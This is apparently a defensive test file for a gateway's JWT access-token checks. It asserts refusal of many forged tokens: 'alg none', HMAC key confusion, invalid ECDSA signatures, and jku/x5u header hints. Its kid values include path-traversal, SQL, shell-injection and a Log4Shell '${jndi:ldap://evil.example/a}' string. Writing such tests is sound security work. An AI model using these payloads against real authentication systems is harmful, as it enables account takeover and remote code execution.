import { createHash, createPrivateKey, createPublicKey, generateKeyPairSync, randomBytes } from 'node:crypto';
import { SEED } from '../../emulator/seed/ids.js';
import { generateKeyTexts, generateSigningKey } from '../../src/config/keys.js';
import { boot, type Booted } from '../support/boot.js';
import { startCanary, type Canary } from '../support/canary.js';
import { rawRequest, sendRaw } from '../support/rawHttp.js';
import { signIn, type SignedIn } from '../support/signIn.js';
import { until } from '../support/until.js';
import { compact, ecdsa, encode, es256, fixed, hmac, rsa, type Signer } from '../support/tokens.js';

const QUERY = '{ viewer { person { name } } }';
const MALFORMED =
  'The access token is not one of this gateway. Send the access token that /oauth/token gave, unchanged.';
const SIGNED_OUT =
  'The sign-in behind this access token no longer exists. Sign in again at /oauth/authorize.';

const [ours, retired, stranger] = [generateSigningKey(), generateSigningKey(), generateSigningKey()];
const KEYS = { ...generateKeyTexts(), SIGNING_KEYS: JSON.stringify({ keys: [ours] }) };

let booted: Booted;
/** Another gateway with the very same keys, whose tokens are not for this one. */
let neighbour: Booted;
let canary: Canary;
let ada: SignedIn;
let grace: SignedIn;
let foreign: SignedIn;

beforeAll(async () => {
  canary = await startCanary(JSON.stringify({ keys: [stranger] }));
  [booted, neighbour] = await Promise.all([boot({ environment: KEYS }), boot({ environment: KEYS })]);
  ada = await signIn(booted.gateway, { personId: SEED.adaId });
  grace = await signIn(booted.gateway, { personId: SEED.graceId });
  foreign = await signIn(neighbour.gateway, { personId: SEED.adaId });
});
afterAll(async () => {
  expect(canary.asked).toEqual([]);
  await Promise.all([booted.close(), neighbour.close(), canary.close()]);
});

type Members = Record<string, unknown>;

const now = () => Math.floor(Date.now() / 1_000);
const header = (changes: Members = {}): Members => ({
  alg: 'ES256',
  typ: 'at+jwt',
  kid: ours.kid,
  ...changes,
});
const payload = (changes: Members = {}): Members => ({ ...ada.claims, ...changes });
/** Signed by the gateway's own key: what is wrong with it is what the test changes. */
const minted = (claims: Members = {}, head: Members = {}) =>
  compact(header(head), payload(claims), es256(ours));
/** The same, with raw JSON in place of what JavaScript can write. */
const mintedRaw = (more: string) =>
  compact(header(), `${JSON.stringify(payload()).slice(0, -1)},${more}}`, es256(ours));
/** What is signed by anything but our key, by default under its name. */
const forged = (sign: Signer, head: Members = {}, claims: Members = {}) =>
  compact(header(head), payload(claims), sign);
const parts = (token: string) => token.split('.') as [string, string, string];

const postGraphQL = (headers: Record<string, string>, search = '') =>
  fetch(`${booted.url}/graphql${search}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: JSON.stringify({ query: QUERY }),
  });

/** Every way in that takes a token. */
const DOORS: Record<string, (authorization: string) => Promise<Response>> = {
  'POST /graphql': (authorization) => postGraphQL({ authorization }),
  'GET /graphql': (authorization) =>
    fetch(`${booted.url}/graphql?${new URLSearchParams({ query: QUERY }).toString()}`, {
      headers: { authorization, 'apollo-require-preflight': '1' },
    }),
  'PUT /files/uploads/…': (authorization) =>
    fetch(`${booted.url}/files/uploads/${SEED.handbookId}`, {
      method: 'PUT',
      headers: { authorization, 'content-type': 'text/plain' },
      body: 'bytes',
    }),
  'GET /oauth/userinfo': (authorization) =>
    fetch(`${booted.url}/oauth/userinfo`, { headers: { authorization } }),
};

const REFUSED = /^(401 Bearer error="invalid_token"|400 Bearer error="invalid_request")/;

/** The endpoint has its own way to the check of tokens, and so has userinfo; the other doors go by the first. */
const BOTH = ['POST /graphql', 'GET /oauth/userinfo'];

/** Refused in one of the sentences, and never shown again. */
async function expectRefused(
  token: string,
  sentence: RegExp | string = MALFORMED,
  doors: readonly string[] = BOTH,
): Promise<void> {
  for (const door of doors) {
    const answer = await DOORS[door]!(`Bearer ${token}`);
    const text = await answer.text();
    const refusal = `${answer.status} ${answer.headers.get('www-authenticate')}`;
    expect({ door, refusal }).toEqual({ door, refusal: expect.stringMatching(REFUSED) as string });
    if (door.includes('graphql')) expect(text).toMatch(sentence);
    expect(text).not.toContain('Lovelace');
    if (token.length > 40) expect(text).not.toContain(token.slice(-40));
  }
}

const publicKey = createPublicKey({ key: ours, format: 'jwk' });
const pem = publicKey.export({ type: 'spki', format: 'pem' }) as string;
const der = publicKey.export({ type: 'spki', format: 'der' });
const { d: _private, ...publicJwk } = ours;
const point = Buffer.concat([Buffer.from(ours.x!, 'base64url'), Buffer.from(ours.y!, 'base64url')]);
const { privateKey: p384 } = generateKeyPairSync('ec', { namedCurve: 'P-384' });
const { privateKey: p521 } = generateKeyPairSync('ec', { namedCurve: 'P-521' });
const { privateKey: k256 } = generateKeyPairSync('ec', { namedCurve: 'secp256k1' });
const ourPrivate = createPrivateKey({ key: ours, format: 'jwk' });
const ORDER = Buffer.from('ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551', 'hex');
const word = (last: number) => Buffer.concat([Buffer.alloc(31), Buffer.from([last])]);
const NOTHING = fixed(Buffer.alloc(0));

describe('a token that is good', () => {
  it.each(Object.entries(DOORS))(
    'opens %s, as the gateway gave it and as these tests make it',
    async (_door, knock) => {
      for (const token of [ada.accessToken, minted()])
        expect((await knock(`Bearer ${token}`)).status).not.toBe(401);
    },
  );

  it.each(['Bearer', 'bearer', 'BEARER', 'bEaReR'])('may stand behind %s', async (scheme) => {
    const answer = await postGraphQL({ authorization: `${scheme} ${ada.accessToken}` });
    expect(await answer.text()).toContain('Ada Lovelace');
  });
});

describe('a token that is not', () => {
  it.each(Object.keys(DOORS))('opens nothing at %s', async (door) => {
    const [head, body] = parts(ada.accessToken);
    const tokens = [ada.idToken, ada.refreshToken, `${head}.${body}.`, forged(es256(stranger))];
    for (const token of tokens) await expectRefused(token, MALFORMED, [door]);
  });
});

describe('no algorithm but ES256', () => {
  const NONES = ['none', 'None', 'NONE', 'nOnE', 'noNe', 'none ', ' none', 'none\0', 'n\u043ene', ''];
  it.each(NONES.map((alg) => [alg]))('alg %j without a signature', async (alg) => {
    await expectRefused(forged(NOTHING, { alg }));
  });
  it.each(NONES.map((alg) => [alg]))('alg %j with the signature of a good token', async (alg) => {
    const [, , signature] = parts(ada.accessToken);
    await expectRefused(`${encode(header({ alg }))}.${encode(payload())}.${signature}`);
  });

  it.each([null, undefined, 0, true, [], ['ES256'], { alg: 'ES256' }, 'es256', 'Es256', 'ES256 ', 'ES256K'])(
    'alg %j, signed with our own key all the same',
    async (alg) => {
      await expectRefused(minted({}, { alg }));
    },
  );

  const SECRETS: [string, string | Buffer][] = [
    ['the public key in PEM', pem],
    ['… without its last line end', pem.trim()],
    ['… with the line ends of Windows', pem.replaceAll('\n', '\r\n')],
    ['the public key in DER', der],
    ['the public key as a JWK', JSON.stringify(publicJwk)],
    ['the coordinates of the public key', point],
    ['the x of the public key', ours.x!],
    ['the name of the key', ours.kid],
    ['nothing', ''],
    ['a null byte', '\0'],
    ['a usual secret', 'secret'],
  ];
  it.each(SECRETS)('HMAC with %s as its secret', async (_what, secret) => {
    for (const bits of ['256', '384', '512'])
      await expectRefused(forged(hmac(`sha${bits}`, secret), { alg: `HS${bits}` }));
  });
  it('HMAC with the key set as it is published', async () => {
    const published = await (await fetch(`${booted.url}/oauth/jwks`)).text();
    await expectRefused(forged(hmac('sha256', published), { alg: 'HS256' }));
  });
  it('HMAC that calls itself ES256', async () => {
    await expectRefused(forged(hmac('sha256', pem)));
  });

  it.each<[string, Signer]>([
    ['RS256', rsa('sha256')],
    ['PS256', rsa('sha256')],
    ['RS512', rsa('sha512')],
    ['ES384', ecdsa('sha384', p384)],
    ['ES512', ecdsa('sha512', p521)],
    ['ES256K', ecdsa('sha256', k256)],
    ['EdDSA', fixed(randomBytes(64))],
    ['ES384', ecdsa('sha384', ourPrivate)],
  ])('%s, under the name of our key', async (alg, sign) => {
    await expectRefused(forged(sign, { alg }));
    await expectRefused(forged(sign));
  });
});

describe('no signature but one of our key over these bytes', () => {
  const SIGNATURES: [string, Signer][] = [
    ['nothing', NOTHING],
    ['zeros: r = s = 0', fixed(Buffer.alloc(64))],
    ['r = 0, s = 1', fixed(Buffer.concat([word(0), word(1)]))],
    ['r = 1, s = 0', fixed(Buffer.concat([word(1), word(0)]))],
    ['r = s = 1', fixed(Buffer.concat([word(1), word(1)]))],
    ['r = s = the order of the curve', fixed(Buffer.concat([ORDER, ORDER]))],
    ['r = the order, s = 1', fixed(Buffer.concat([ORDER, word(1)]))],
    ['r and s beyond the order', fixed(Buffer.alloc(64, 0xff))],
    ['one byte', fixed(Buffer.from([0]))],
    ['63 bytes', (input) => es256(ours)(input).subarray(0, 63)],
    ['65 bytes', (input) => Buffer.concat([es256(ours)(input), Buffer.from([0])])],
    ['a good one twice', (input) => Buffer.concat([es256(ours)(input), es256(ours)(input)])],
    ['s before r', (input) => swapped(es256(ours)(input))],
    ['a good one in DER', ecdsa('sha256', ourPrivate, 'der')],
    ['a good one over SHA-512', ecdsa('sha512', ourPrivate)],
    ['a good one over the payload alone', (input) => es256(ours)(input.split('.')[1]!)],
    ['the hash of what is signed', (input) => createHash('sha512').update(input).digest()],
    ['one of another key', es256(stranger)],
    ['one of a key that was rotated out', es256(retired)],
    ['the word null', fixed(Buffer.from('null'))],
  ];
  it.each(SIGNATURES)('%s', async (_what, sign) => {
    await expectRefused(forged(sign));
  });

  it('one of another good token', async () => {
    const [head, body] = parts(minted({ scope: 'openid read write' }));
    for (const other of [ada.accessToken, ada.idToken, grace.accessToken, foreign.accessToken])
      await expectRefused(`${head}.${body}.${parts(other)[2]}`);
  });

  it.each<[string, Members, Members]>([
    ['another person', { sub: SEED.graceId }, {}],
    ['another grant', { gid: 'other' }, {}],
    ['more scopes', { scope: 'openid read write admin' }, {}],
    ['a later end', { exp: 9_999_999_999 }, {}],
    ['another header', {}, { typ: 'JWT' }],
    ['a header with one more member', {}, { x: 1 }],
  ])('one of this token before it said %s, though it was remembered', async (_what, claims, head) => {
    const token = minted();
    expect((await postGraphQL({ authorization: `Bearer ${token}` })).status).toBe(200);
    await expectRefused(`${encode(header(head))}.${encode(payload(claims))}.${parts(token)[2]}`);
    expect((await postGraphQL({ authorization: `Bearer ${token}` })).status).toBe(200);
  });
});

function swapped(signature: Buffer): Buffer {
  return Buffer.concat([signature.subarray(32), signature.subarray(0, 32)]);
}

describe('no key but ours, whatever the header says of it', () => {
  const KIDS: unknown[] = [
    '',
    '/dev/null',
    '../../../../../../dev/null',
    '..\\..\\keys.json',
    'file:///etc/passwd',
    'https://evil.example/key',
    "' OR '1'='1",
    "x' UNION SELECT 'secret' --",
    '{"$ne":null}',
    '| id',
    '`id`',
    '${jndi:ldap://evil.example/a}',
    '__proto__',
    'constructor',
    'toString',
    'key\0',
    '\u202e',
    'k'.repeat(4_000),
    0,
    true,
    null,
    [],
    {},
    { $ne: null },
  ];
  it.each(KIDS.map((kid) => [kid]))('kid %.40j', async (kid) => {
    for (const sign of [hmac('sha256', ''), es256(stranger), es256(ours)])
      for (const alg of ['ES256', 'HS256']) await expectRefused(forged(sign, { alg, kid }));
  });
  it.each<[string, (kid: string) => unknown]>([
    ['missing', () => undefined],
    ['in a list', (kid) => [kid]],
    ['with a null byte behind', (kid) => `${kid}\0`],
    ['with a space behind', (kid) => `${kid} `],
    ['in a path', (kid) => `./${kid}`],
    ['in capitals', (kid) => kid.toUpperCase() + 'X'],
  ])('our kid, %s', async (_how, change) => {
    await expectRefused(minted({}, { kid: change(ours.kid) }));
  });

  const { d: _d, ...strangersJwk } = stranger;
  const HINTS: [string, () => Members][] = [
    ['jku', () => ({ jku: `${canary.url}/jwks` })],
    ['jku of ours with a redirect', () => ({ jku: `${booted.url}/oauth/end-session?u=${canary.url}` })],
    ['jku that only looks like ours', () => ({ jku: `${booted.url}@127.0.0.1:${canary.port}/jwks` })],
    ['x5u', () => ({ x5u: `${canary.url}/cert.pem` })],
    ['x5c', () => ({ x5c: [der.toString('base64')] })],
    ['x5t', () => ({ 'x5t#S256': createHash('sha256').update(der).digest('base64url') })],
    ['jwk', () => ({ jwk: strangersJwk })],
    ['jwk of a secret', () => ({ alg: 'HS256', jwk: { kty: 'oct', k: '' } })],
  ];
  it.each(HINTS)('%s', async (_what, hint) => {
    for (const kid of [ours.kid, stranger.kid, undefined])
      await expectRefused(forged(es256(stranger), { ...hint(), kid }));
    // Ours never say where their key is: one that does was made by other means.
    await expectRefused(minted({}, hint()));
  });

  it('a key that was rotated out, under its own kid', async () => {
    await expectRefused(forged(es256(retired), { kid: retired.kid }));
  });
});

describe('no header that asks for more than we do', () => {
  it.each([
    ['crit of what we do not know', { crit: ['evil'], evil: true }],
    ['crit of what is no extension', { crit: ['exp'], exp: 1 }],
    ['an empty crit', { crit: [] }],
    ['crit of nothing', { crit: null }],
    ['crit as a text', { crit: 'b64' }],
    ['b64: false', { b64: false, crit: ['b64'] }],
    ['b64: false without crit', { b64: false }],
    ['a nested token', { cty: 'JWT' }],
    ['compression', { zip: 'DEF' }],
    ['an encryption', { enc: 'A256GCM' }],
  ])('%s', async (_what, head) => {
    await expectRefused(minted({}, head));
  });

  it.each([
    'JWT',
    'jwt',
    'AT+JWT',
    'at+JWT',
    'application/at+jwt',
    'application/jwt',
    'id_token+jwt',
    'logout+jwt',
    '',
    null,
    undefined,
    ['at+jwt'],
  ])('typ %j', async (typ) => {
    await expectRefused(minted({}, { typ }));
  });
});

describe('no token for another place, time or person', () => {
  it.each<[string, () => Members]>([
    ['another issuer', () => ({ iss: 'https://evil.example' })],
    ['our issuer with a slash', () => ({ iss: `${booted.url}/` })],
    ['no issuer', () => ({ iss: undefined })],
    ['a list of issuers', () => ({ iss: [booted.url] })],
    ['the issuer of a neighbour with our keys', () => ({ iss: neighbour.url })],
    ['another audience', () => ({ aud: 'https://evil.example' })],
    ['the audience of an id token', () => ({ aud: 'web-app' })],
    ['the issuer as its audience', () => ({ aud: booted.url })],
    ['no audience', () => ({ aud: undefined })],
    ['no audience in a list', () => ({ aud: [] })],
    ['our audience and another', () => ({ aud: ['https://evil.example', `${booted.url}/graphql`] })],
    ['our audience within another', () => ({ aud: `${booted.url}/graphql/../evil` })],
    ['an audience that is an object', () => ({ aud: { 0: `${booted.url}/graphql`, length: 1 } })],
    ['a time that has not come', () => ({ nbf: now() + 600 })],
    ['a time that is no number', () => ({ nbf: 'soon' })],
    ['a birth in the future', () => ({ iat: now() + 3_600 })],
    ['a birth that is no number', () => ({ iat: 'yesterday' })],
    ['no end', () => ({ exp: undefined })],
    ['an end that is nothing', () => ({ exp: null })],
    ['an end that is a text', () => ({ exp: String(now() + 600) })],
    ['an end that is a list', () => ({ exp: [now() + 600] })],
    ['an end in milliseconds', () => ({ exp: Date.now() + 600_000 })],
    ['an end in a thousand years', () => ({ exp: now() + 31_536_000_000 })],
    ['an end beyond all dates', () => ({ exp: 1e18 })],
    ['a fraction of an end', () => ({ exp: now() + 600.5 })],
    ['no person', () => ({ sub: undefined })],
    ['an empty person', () => ({ sub: '' })],
    ['a list of persons', () => ({ sub: [SEED.adaId] })],
    ['no grant', () => ({ gid: undefined })],
    ['a query for a grant', () => ({ gid: { $ne: null } })],
    ['a list of grants', () => ({ gid: [ada.claims.gid] })],
    ['a query for a sign-in', () => ({ sid: { $gt: '' } })],
    ['no app', () => ({ client_id: undefined })],
    ['scopes in a list', () => ({ scope: ['read', 'write'] })],
    ['scopes in an object', () => ({ scope: { read: true } })],
  ])('%s', async (_what, claims) => {
    await expectRefused(minted(claims()));
  });

  it.each(['"exp":1e400', '"exp":-1e400', '"gid":{"__proto__":1}', '"sub":null,"sub":[]'])(
    'a last member that takes the place of the first: %s',
    async (more) => {
      await expectRefused(mintedRaw(more), /not one of this gateway|has expired/);
    },
  );

  it.each([now() - 1, now() - 86_400, 1, 0, -1])('an end at %d', async (exp) => {
    await expectRefused(
      minted({ exp }),
      'The access token has expired. Ask /oauth/token for a new one with the refresh token, or sign in again.',
    );
  });

  it.each<[string, () => Members]>([
    ['a person and the grant of another', () => ({ sub: SEED.graceId })],
    ['a grant and the person of another', () => ({ gid: grace.claims.gid })],
    ['a person and a grant, and the sign-in of another', () => ({ sid: grace.claims.sid })],
    ['an app, and the sign-in of another', () => ({ client_id: 'native-app' })],
    ['a grant that is no more', () => ({ gid: 'gone' })],
    ['no sign-in', () => ({ sid: undefined })],
    ['an empty sign-in', () => ({ sid: '' })],
    ['a sign-in that is no more', () => ({ sid: 'gone' })],
    ['a grant of the prototype', () => ({ gid: '__proto__' })],
    ['a sign-in with a null byte', () => ({ sid: `${String(ada.claims.sid)}\0` })],
    ['a grant in a path', () => ({ gid: `../${ada.claims.gid}` })],
    ['a grant of 4,000 letters', () => ({ gid: 'g'.repeat(4_000) })],
  ])('%s', async (_what, claims) => {
    await expectRefused(minted(claims()), SIGNED_OUT);
  });

  it('a token of a neighbour that has the very same keys', async () => {
    await expectRefused(foreign.accessToken);
  });
});

describe('nothing that is no access token', () => {
  it('an id token', () => expectRefused(ada.idToken));
  it('an id token that calls itself an access token', async () => {
    const [, body] = parts(ada.idToken);
    await expectRefused(compact(header(), Buffer.from(body, 'base64url').toString(), es256(ours)));
  });
  it('a refresh token', () => expectRefused(ada.refreshToken));
  it('a token of Notion', async () => {
    for (const { accessToken } of Object.values(booted.emulator.state.tokens))
      await expectRefused(accessToken);
  });
  it('a nested token', async () => {
    await expectRefused(compact(header(), minted(), es256(ours)));
    await expectRefused(compact(header(), JSON.stringify(minted()), es256(ours)));
  });
  it.each([
    ['a payload that is a list', '[]'],
    ['a payload that is null', 'null'],
    ['a payload that is a number', '1'],
    ['a payload that is no JSON', '{"sub":'],
    ['a payload of nothing', ''],
    ['a payload of UTF-16', '\ufeff{}'],
  ])('%s', async (_what, body) => {
    await expectRefused(compact(header(), body, es256(ours)));
  });
  it.each([
    ['a header that is null', 'null'],
    ['a header that is a list', '[]'],
    ['a header that is no JSON', '{alg:ES256}'],
    ['a header with two algorithms', `{"alg":"ES256","alg":"none","typ":"at+jwt","kid":"${ours.kid}"}`],
    ['a header with two types', `{"alg":"ES256","typ":"at+jwt","typ":"JWT","kid":"${ours.kid}"}`],
  ])('%s', async (_what, head) => {
    await expectRefused(compact(head, payload(), es256(ours)));
  });
  it.each<[string, (token: string) => string]>([
    ['two parts', (token) => token.slice(0, token.lastIndexOf('.'))],
    ['four parts', (token) => `${token}.AAAA`],
    ['the five parts of an encrypted one', (token) => `${parts(token)[0]}.AAAA.AAAA.${parts(token)[1]}.AAAA`],
    ['no header', (token) => token.slice(token.indexOf('.'))],
    ['a dot before', (token) => `.${token}`],
    ['a dot behind', (token) => `${token}.`],
    ['the alphabet of plain base64', () => inPlainBase64(withDash())],
    ['padding', (token) => `${token}==`],
    ['a letter more', (token) => `${token}A`],
    ['a letter less', (token) => token.slice(0, -1)],
    ['other bits where its last letter has none', otherBits],
    ['percent signs in its place', (token) => encodeURIComponent(`${token}=`)],
    ['a comma', (token) => `${token},${token}`],
    ['capitals', (token) => token.toUpperCase()],
    ['100 letters before', (token) => 'A'.repeat(100) + token],
    ['9,000 letters', () => 'a'.repeat(9_000)],
    ['its JSON in place of its parts', () => JSON.stringify({ protected: header(), payload: payload() })],
  ])('a good one with %s', async (_what, change) => {
    await expectRefused(change(minted()), /not one of this gateway|not understood/);
  });
  it.each(['null', 'undefined', 'true', '0', '..', '.', 'e30.e30.e30', '{}', '[object Object]'])(
    'the text %j',
    async (text) => {
      const answer = await postGraphQL({ authorization: `Bearer ${text}` });
      expect(answer.status).toBe(401);
    },
  );
  it('100 KB, which are not even read', async () => {
    const [answer] = await sendRaw(
      booted.gateway.port,
      rawRequest(
        'POST /graphql HTTP/1.1',
        [`Authorization: Bearer ${'a'.repeat(100_000)}`, 'Content-Length: 2'],
        '{}',
      ),
    );
    expect(answer?.status).toBe(431);
  });
});

/** A token with a letter that the two alphabets of base64 write differently. */
function withDash(): string {
  for (;;) {
    const token = minted();
    if (/[-_]/.test(parts(token)[2])) return token;
  }
}

function inPlainBase64(token: string): string {
  return token.replaceAll('-', '+').replaceAll('_', '/');
}

/** 64 bytes end in a letter with four bits to spare: sixteen spellings of one signature. */
function otherBits(token: string): string {
  const LETTERS = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  return token.slice(0, -1) + LETTERS[LETTERS.indexOf(token.at(-1)!) + 1]!;
}

describe('a token that is sent in any other way', () => {
  const body = JSON.stringify({ query: QUERY });
  const raw = async (lines: string[], target = '/graphql') => {
    const headers = ['Content-Type: application/json', `Content-Length: ${body.length}`, ...lines];
    const [answer] = await sendRaw(booted.gateway.port, rawRequest(`POST ${target} HTTP/1.1`, headers, body));
    return answer!;
  };

  it.each<[string, (token: string) => string[]]>([
    ['twice', (token) => [`Authorization: Bearer ${token}`, `Authorization: Bearer ${token}`]],
    ['before another', (token) => [`Authorization: Bearer ${token}`, 'Authorization: Bearer other']],
    ['behind another', (token) => ['Authorization: Bearer other', `Authorization: Bearer ${token}`]],
    ['behind a Basic one', (token) => ['authorization: Basic YTpi', `AUTHORIZATION: Bearer ${token}`]],
    ['in a list', (token) => [`Authorization: Bearer ${token}, Bearer ${token}`]],
    ['as a parameter', (token) => [`Authorization: Bearer token="${token}"`]],
    ['in quotes', (token) => [`Authorization: Bearer "${token}"`]],
    ['without a scheme', (token) => [`Authorization: ${token}`]],
    ['as Basic', (token) => [`Authorization: Basic ${Buffer.from(`:${token}`).toString('base64')}`]],
    ['as DPoP', (token) => [`Authorization: DPoP ${token}`]],
    ['as JWT', (token) => [`Authorization: JWT ${token}`]],
    ['behind two schemes', (token) => [`Authorization: Bearer Bearer ${token}`]],
    ['behind a colon', (token) => [`Authorization: Bearer: ${token}`]],
    ['behind a tab', (token) => [`Authorization: Bearer\t${token}`]],
    ['behind a space of another kind', (token) => [`Authorization: Bearer\xa0${token}`]],
    ['with a space within', (token) => [`Authorization: Bearer ${token.slice(0, 20)} ${token.slice(20)}`]],
    ['with letters beyond ASCII', (token) => [`Authorization: Bearer ${token}\xe9`]],
  ])('%s is refused', async (_how, headers) => {
    const { status, body: text } = await raw(headers(minted()));
    expect({ status, understood: text.includes('Lovelace') }).toEqual({ status: 401, understood: false });
  });

  it.each<[string, (token: string) => string[]]>([
    ['over two lines', (token) => [`Authorization: Bearer`, ` ${token}`]],
    ['with a null byte', (token) => [`Authorization: Bearer ${token}\0`]],
    ['under a name with a space', (token) => [`Authorization : Bearer ${token}`]],
  ])('%s is no HTTP', async (_how, headers) => {
    const { status, body: text } = await raw(headers(minted()));
    expect({ status, understood: text.includes('Lovelace') }).toEqual({ status: 400, understood: false });
  });

  it.each([
    'Proxy-Authorization',
    'X-Authorization',
    'X-Forwarded-Authorization',
    'X-Access-Token',
    'Sec-WebSocket-Protocol',
  ])('in %s is nobody’s', async (name) => {
    const { body: text } = await raw([`${name}: Bearer ${minted()}`]);
    expect(text).toContain('UNAUTHENTICATED');
  });

  it.each(['session', 'token', 'access_token', 'Authorization', '__Host-session'])(
    'in the cookie %s is nobody’s',
    async (name) => {
      const { body: text } = await raw([`Cookie: ${name}=${minted()}`]);
      expect(text).toContain('UNAUTHENTICATED');
    },
  );

  it.each(['access_token', 'token', 'authorization', 'bearer', 'jwt', 'id_token'])(
    'in the address, as %s, is nobody’s',
    async (name) => {
      const answer = await postGraphQL({}, `?${name}=${minted()}`);
      expect(await answer.text()).toContain('UNAUTHENTICATED');
      const userinfo = await fetch(`${booted.url}/oauth/userinfo?${name}=${minted()}`);
      expect(userinfo.status).toBe(401);
    },
  );

  it.each(['access_token', 'authorization'])('in the body, as %s, is nobody’s', async (name) => {
    const json = { query: QUERY, [name]: minted(), extensions: { [name]: minted() } };
    const answer = await fetch(`${booted.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(json),
    });
    expect(await answer.text()).toContain('UNAUTHENTICATED');
    const form = new URLSearchParams({ [name]: minted() });
    expect((await fetch(`${booted.url}/oauth/userinfo`, { method: 'POST', body: form })).status).toBe(401);
  });
});

describe('a token of somebody who has left', () => {
  const works = async ({ accessToken }: SignedIn) =>
    (await postGraphQL({ authorization: `Bearer ${accessToken}` })).status === 200;

  it.each<[string, (person: SignedIn) => Promise<unknown>]>([
    [
      'by signing out',
      ({ accessToken }) =>
        fetch(`${booted.url}/graphql`, {
          method: 'POST',
          headers: { 'content-type': 'application/json', authorization: `Bearer ${accessToken}` },
          body: JSON.stringify({ query: 'mutation { signOut(input: {}) { __typename } }' }),
        }),
    ],
    [
      'by revoking the refresh token',
      ({ refreshToken }) =>
        fetch(`${booted.url}/oauth/revoke`, {
          method: 'POST',
          body: new URLSearchParams({ client_id: 'web-app', token: refreshToken }),
        }),
    ],
  ])('is refused at once, though it was remembered: %s', async (_how, leave) => {
    const person = await signIn(booted.gateway, { personId: SEED.alanId });
    expect(await works(person)).toBe(true);
    await leave(person);
    await expectRefused(person.accessToken, SIGNED_OUT);
  });

  it('is refused seconds after another gateway has removed the grant', async () => {
    const person = await signIn(booted.gateway, { personId: SEED.alanId });
    expect(await works(person)).toBe(true);
    await booted.gateway.store.grants.remove(person.claims.gid);
    await until(async () => !(await works(person)));
    await expectRefused(person.accessToken, SIGNED_OUT);
  });
});

describe('a token with fewer scopes', () => {
  const WRITE = `mutation { trashPage(input: { id: "${SEED.websiteProjectId}" }) { page { id } } }`;

  it.each([
    'read',
    'read  Write',
    'read,write',
    'read+write',
    'read\twrite',
    'read\nwrite',
    'read\u00a0write',
    'read write*',
    'readwrite',
    'read admin *',
    'read "write"',
  ])('may not write: %j', async (scope) => {
    const answer = await fetch(`${booted.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${minted({ scope })}` },
      body: JSON.stringify({ query: WRITE }),
    });
    const { data, errors } = (await answer.json()) as {
      data: unknown;
      errors: { extensions: { code: string } }[];
    };
    expect(data).toEqual({ trashPage: null });
    expect(errors[0]?.extensions.code).toBe('FORBIDDEN');
  });

  it.each(['read write', 'write read admin', 'openid%20write', 'write'])(
    'is not given more by the app that asks for %j with a refresh',
    async (scope) => {
      const { refreshToken } = await signIn(booted.gateway, { personId: SEED.adaId, scope: 'openid read' });
      const answer = await fetch(`${booted.url}/oauth/token`, {
        method: 'POST',
        body: new URLSearchParams({
          grant_type: 'refresh_token',
          client_id: 'web-app',
          refresh_token: refreshToken,
          scope,
        }),
      });
      expect([answer.status, await answer.json()]).toEqual([
        400,
        expect.objectContaining({ error: 'invalid_scope' }),
      ]);
    },
  );
});
